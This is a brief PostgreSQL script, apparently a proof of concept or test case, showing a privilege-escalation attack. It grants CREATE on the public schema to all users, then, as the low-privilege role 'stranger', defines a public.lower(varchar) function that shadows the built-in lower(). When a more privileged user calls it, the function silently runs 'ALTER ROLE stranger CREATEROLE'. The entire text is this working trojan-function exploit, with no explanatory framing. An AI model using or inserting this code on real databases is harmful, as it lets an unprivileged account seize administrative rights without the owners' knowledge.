\connect postgres
GRANT CREATE ON SCHEMA public TO PUBLIC;
\connect postgres stranger
CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  ALTER ROLE stranger CREATEROLE;
  RETURN pg_catalog.lower($1);
END $$;
